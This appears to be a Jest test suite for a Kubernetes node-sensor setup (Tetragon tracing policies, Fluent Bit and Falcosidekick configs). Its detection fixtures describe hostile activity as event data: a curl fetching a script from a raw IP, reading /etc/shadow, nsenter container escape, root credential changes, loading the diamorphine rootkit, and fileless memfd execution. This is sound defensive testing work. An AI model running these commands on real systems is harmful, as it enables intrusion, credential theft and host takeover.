import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { nodeRules } from '../../shared/detection/rules/node';
import { SkipReason } from '../../shared/kubernetes/skipReason';
import { kprobeEvent } from '../../shared/node/exampleNodeEvents';
import { parseAllDocuments } from 'yaml';
import { evaluate } from '../support/ruleHarness';

/** Every document of a multi-document YAML file, as plain values; a syntax error throws. */
const loadAll = (text: string): unknown[] =>
  parseAllDocuments(text).map((document) => {
    const [error] = document.errors;
    if (error !== undefined) throw new Error(`invalid YAML: ${error.message}`);
    return document.toJS() as unknown;
  });

const directory = join(__dirname, '..', '..', 'docs', 'node-sensor');
const read = (name: string): string => readFileSync(join(directory, name), 'utf8');
const yamlFiles = readdirSync(directory).filter((name) => name.endsWith('.yaml'));

type Json = Record<string, unknown>;
const asObject = (value: unknown): Json => (typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Json) : {});
const asArray = (value: unknown): unknown[] => (Array.isArray(value) ? value : []);

/** The one document of a values file, as an object. */
function valuesOf(name: string): Json {
  const documents = loadAll(read(name));
  expect(documents).toHaveLength(1);
  return asObject(documents[0]);
}

/** The value of a `Key value` line of a Fluent Bit classic-format section (keys are case-insensitive). */
function fluentBitSetting(section: string, key: string): string | undefined {
  const line = section.split('\n').find((candidate) => candidate.trim().toLowerCase().startsWith(`${key.toLowerCase()} `));
  return line?.trim().slice(key.length).trim();
}

/** The name Tetragon reports for a hook: system calls get the architecture's prefix (`sys_setns` -> `__x64_sys_setns`). */
function reportedNames(kprobe: Json): string[] {
  const call = String(kprobe.call);
  if (kprobe.syscall !== true || !call.startsWith('sys_')) return [call];
  return [`__x64_${call}`, `__arm64_${call}`];
}

/** A process of the example application pod (not a platform workload). */
const containerProcess = (binary: string, args = '', uid = 1000) => ({ process: { binary, arguments: args, uid } });

/**
 * For each hook the policies name, a use of it that a node rule must alert on, built with the hook's name as the policy
 * gives it. The same event under an unrelated hook name must raise nothing (so the alert proves the rules read that
 * hook), except for the hooks listed in ARGUMENT_KEYED_HOOKS: the rules read any hook's file or module argument.
 */
const HOOK_SCENARIOS: Record<string, (functionName: string) => Record<string, unknown>> = {
  tcp_connect: (functionName) =>
    kprobeEvent({
      ...containerProcess('/usr/bin/curl', '-s http://45.10.88.102/d.sh'),
      functionName,
      args: [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '10.244.1.47', daddr: '45.10.88.102', sport: 43718, dport: 80 } }],
    }),
  // A script on the node (an intruder after an escape) reading the password hashes.
  security_file_permission: (functionName) =>
    kprobeEvent({
      process: { binary: '/usr/bin/python3', arguments: '/tmp/x.py', uid: 0, pod: null },
      functionName,
      args: [{ file_arg: { path: '/etc/shadow' } }, { int_arg: 4 }],
      returnArg: { int_arg: 0 },
    }),
  sys_setns: (functionName) =>
    kprobeEvent({ ...containerProcess('/usr/bin/nsenter', '--target 1 --mount --pid -- bash', 0), functionName, args: [{ int_arg: 3 }, { int_arg: 0x20000 }], returnArg: { int_arg: 0 } }),
  sys_unshare: (functionName) =>
    kprobeEvent({ ...containerProcess('/usr/bin/unshare', '-r -m sh', 1000), functionName, args: [{ int_arg: 0x10020000 }], returnArg: { int_arg: 0 } }),
  commit_creds: (functionName) =>
    kprobeEvent({
      ...containerProcess('/tmp/exploit', ''),
      functionName,
      args: [{ process_credentials_arg: { uid: 0, gid: 0, euid: 0, egid: 0, suid: 0, sgid: 0, fsuid: 0, fsgid: 0 } }],
    }),
  do_init_module: (functionName) =>
    kprobeEvent({ ...containerProcess('/usr/sbin/insmod', '/tmp/diamorphine.ko', 0), functionName, args: [{ module_arg: { name: 'diamorphine', signature_ok: false } }] }),
  security_kernel_module_request: (functionName) =>
    kprobeEvent({ ...containerProcess('/tmp/exp', ''), functionName, args: [{ string_arg: 'net-pf-38' }] }),
  sys_ptrace: (functionName) => kprobeEvent({ ...containerProcess('/tmp/.i/inject', '1'), functionName, args: [{ int_arg: 16 }, { int_arg: 1 }] }),
  sys_memfd_create: (functionName) =>
    kprobeEvent({ ...containerProcess('/usr/bin/python3', '-c "import os;fd=os.memfd_create(\'\',1)"'), functionName, args: [{ string_arg: '' }, { int_arg: 1 }] }),
};

/** Hooks whose events the rules recognise by their argument (`file_arg`, `module_arg`), whatever the hook's name. */
const ARGUMENT_KEYED_HOOKS: ReadonlySet<string> = new Set(['security_file_permission', 'do_init_module']);

const policies = loadAll(read('tracing-policies.yaml')).map(asObject);
const kprobes = policies.flatMap((policy) => asArray(asObject(policy.spec).kprobes).map((kprobe) => ({ policy: String(asObject(policy.metadata).name), kprobe: asObject(kprobe) })));

describe('docs/node-sensor', () => {
  it.each(yamlFiles)('when %s is parsed, then every document is valid YAML and not empty', (name) => {
    const documents = loadAll(read(name));
    expect(documents.length).toBeGreaterThan(0);
    for (const document of documents) expect(Object.keys(asObject(document)).length).toBeGreaterThan(0);
  });

  it('when the folder is listed, then it holds the README and the four files it names', () => {
    expect(yamlFiles.sort()).toEqual(['falcosidekick-values.yaml', 'fluent-bit-values.yaml', 'tetragon-values.yaml', 'tracing-policies.yaml']);
    const readme = read('README.md');
    for (const name of yamlFiles) expect(readme).toContain(`(${name})`);
  });
});

describe('docs/node-sensor/tracing-policies.yaml', () => {
  it('when the documents are read, then each is a cilium.io/v1alpha1 TracingPolicy with a unique name and kprobes', () => {
    expect(policies.length).toBeGreaterThanOrEqual(5);
    for (const policy of policies) {
      expect(policy.apiVersion).toBe('cilium.io/v1alpha1');
      expect(policy.kind).toBe('TracingPolicy');
      expect(asArray(asObject(policy.spec).kprobes).length).toBeGreaterThan(0);
    }
    const names = policies.map((policy) => asObject(policy.metadata).name);
    expect(new Set(names).size).toBe(names.length);
  });

  it('when the hooks are listed, then the ones the node rules read are all there', () => {
    const calls = kprobes.map(({ kprobe }) => kprobe.call);
    expect(calls).toEqual(expect.arrayContaining(['tcp_connect', 'security_file_permission', 'sys_setns', 'commit_creds', 'do_init_module', 'sys_ptrace', 'sys_memfd_create']));
  });

  it('when a kprobe declares arguments, then each has an index and a Tetragon type, and selectors use declared indexes', () => {
    const types = new Set(['sock', 'file', 'int', 'string', 'cred', 'module', 'path', 'uint32', 'size_t', 'fd', 'char_buf']);
    for (const { policy, kprobe } of kprobes) {
      const args = asArray(kprobe.args).map(asObject);
      const indexes = new Set(args.map((arg) => arg.index));
      for (const arg of args) expect({ policy, type: arg.type, known: types.has(String(arg.type)) }).toEqual({ policy, type: arg.type, known: true });
      for (const selector of asArray(kprobe.selectors).map(asObject)) {
        for (const match of asArray(selector.matchArgs).map(asObject)) expect({ policy, index: match.index, declared: indexes.has(match.index) }).toEqual({ policy, index: match.index, declared: true });
      }
    }
  });

  it.each(kprobes.map(({ policy, kprobe }) => [policy, String(kprobe.call), kprobe] as const))(
    'when %s reports %s, then a node rule alerts on it (and, when the rules key on the name, not under another hook)',
    (_policy, call, kprobe) => {
      const scenario = HOOK_SCENARIOS[call];
      expect(scenario).toBeDefined();
      if (scenario === undefined) return;
      for (const functionName of reportedNames(kprobe)) {
        const hits = evaluate(nodeRules, [scenario(functionName)]).findings.map((finding) => finding.alertType);
        expect({ functionName, alerted: hits.length > 0 }).toEqual({ functionName, alerted: true });
      }
      if (!ARGUMENT_KEYED_HOOKS.has(call)) expect(evaluate(nodeRules, [scenario('unrelated_hook')]).findings.map((finding) => finding.alertType)).toEqual([]);
    },
  );
});

describe('docs/node-sensor/tetragon-values.yaml', () => {
  const tetragon = asObject(valuesOf('tetragon-values.yaml').tetragon);

  it('when the export deny list is read, then every line is JSON and host processes (namespace "") are not dropped', () => {
    const filters = String(tetragon.exportDenyList).split('\n').filter((line) => line.trim() !== '').map((line) => asObject(JSON.parse(line)));
    expect(filters.length).toBeGreaterThan(0);
    for (const filter of filters) expect(asArray(filter.namespace)).not.toContain('');
  });

  it('when the field filters are read, then they drop nothing the rules or event ids need', () => {
    const filters = String(tetragon.fieldFilters).split('\n').filter((line) => line.trim() !== '').map((line) => asObject(JSON.parse(line)));
    for (const filter of filters) {
      expect(filter.action).toBe('EXCLUDE');
      for (const field of String(filter.fields).split(',')) expect(field).toMatch(/pod_labels$/);
    }
  });

  it('when the export and process settings are read, then the export file is on and credentials and ancestors are reported', () => {
    expect(tetragon.exportFilename).toBe('tetragon.log');
    expect(tetragon.enableProcessCred).toBe(true);
    expect(String(asObject(tetragon.processAncestors).enabled).split(',')).toEqual(expect.arrayContaining(['base', 'kprobe']));
    expect(tetragon.exportRateLimit).toBe(-1);
  });
});

describe('docs/node-sensor/fluent-bit-values.yaml', () => {
  const values = valuesOf('fluent-bit-values.yaml');
  const config = asObject(values.config);
  const tetragonValues = valuesOf('tetragon-values.yaml');

  it('when the input is read, then it tails the file Tetragon writes, with a JSON parser', () => {
    const inputs = String(config.inputs);
    const exportFile = `${String(tetragonValues.exportDirectory)}/${String(asObject(tetragonValues.tetragon).exportFilename)}`;
    expect(fluentBitSetting(inputs, 'Name')).toBe('tail');
    expect(fluentBitSetting(inputs, 'Path')).toBe(exportFile);
    const parser = fluentBitSetting(inputs, 'Parser');
    expect(String(config.customParsers)).toContain(`Name        ${parser ?? ''}`);
    expect(fluentBitSetting(String(config.customParsers), 'Format')).toBe('json');
  });

  it('when the filter is read, then record_modifier adds an AKS cluster resource id as cluster_resource_id', () => {
    const filters = String(config.filters);
    expect(fluentBitSetting(filters, 'Name')).toBe('record_modifier');
    expect(fluentBitSetting(filters, 'Record')).toMatch(/^cluster_resource_id \/subscriptions\/[^/]+\/resourceGroups\/[^/]+\/providers\/Microsoft\.ContainerService\/managedClusters\/\S+$/);
  });

  it('when the output is read, then it produces to the node-events hub through the Kafka endpoint within the message cap', () => {
    const outputs = String(config.outputs);
    const hub = /var nodeEventHubName = '([^']+)'/.exec(readFileSync(join(__dirname, '..', '..', 'infra', 'main.bicep'), 'utf8'))?.[1];
    expect(hub).toBe('node-events');
    expect(fluentBitSetting(outputs, 'Name')).toBe('kafka');
    expect(fluentBitSetting(outputs, 'Topics')).toBe(hub);
    expect(fluentBitSetting(outputs, 'Brokers')).toMatch(/^\S+\.servicebus\.windows\.net:9093$/);
    expect(fluentBitSetting(outputs, 'rdkafka.security.protocol')).toBe('SASL_SSL');
    expect(fluentBitSetting(outputs, 'rdkafka.sasl.mechanism')).toBe('PLAIN');
    expect(fluentBitSetting(outputs, 'rdkafka.sasl.username')).toBe('$ConnectionString');
    expect(Number(fluentBitSetting(outputs, 'rdkafka.message.max.bytes'))).toBeLessThanOrEqual(1_000_000);
  });

  it('when the connection string is read, then it comes from a Secret, not from the file', () => {
    const env = asArray(values.env).map(asObject);
    expect(env.find((variable) => variable.name === 'EVENTHUB_CONNECTION_STRING')?.valueFrom).toEqual({ secretKeyRef: { name: 'argus-node-events', key: 'connection-string' } });
    expect(read('fluent-bit-values.yaml')).not.toMatch(/SharedAccessKey=/);
  });
});

describe('docs/node-sensor/falcosidekick-values.yaml', () => {
  const config = asObject(valuesOf('falcosidekick-values.yaml').config);

  it('when the Event Hub output is read, then it sends to the node-events hub with a workload identity', () => {
    const azure = asObject(config.azure);
    const eventHub = asObject(azure.eventHub);
    expect(eventHub.name).toBe('node-events');
    expect(String(eventHub.namespace)).toMatch(/\.servicebus\.windows\.net$/);
    expect(azure.workloadIdentityClientID).toEqual(expect.any(String));
  });

  it('when the custom fields are read, then they carry the cluster resource id', () => {
    expect(String(config.customfields)).toMatch(/^cluster_resource_id:\/subscriptions\/[^,]+\/managedClusters\/[^,]+$/);
  });
});

describe('docs/node-sensor/README.md', () => {
  const readme = read('README.md');

  it('when it is read, then it describes both routes and the dead-letter reason of an event without a cluster', () => {
    expect(readme).toContain(SkipReason.missingClusterIdentity);
    expect(readme).toContain('POST /api/ingest/node');
    expect(readme).toContain('servicebus.windows.net:9093');
    expect(readme).toContain('node-events');
    expect(readme).toContain('NODE_EVENTHUB_NAME');
    expect(readme).toContain('Record cluster_resource_id /subscriptions/');
    expect(readme).toMatch(/Standard/);
    expect(readme).toMatch(/1 MB/);
  });
});
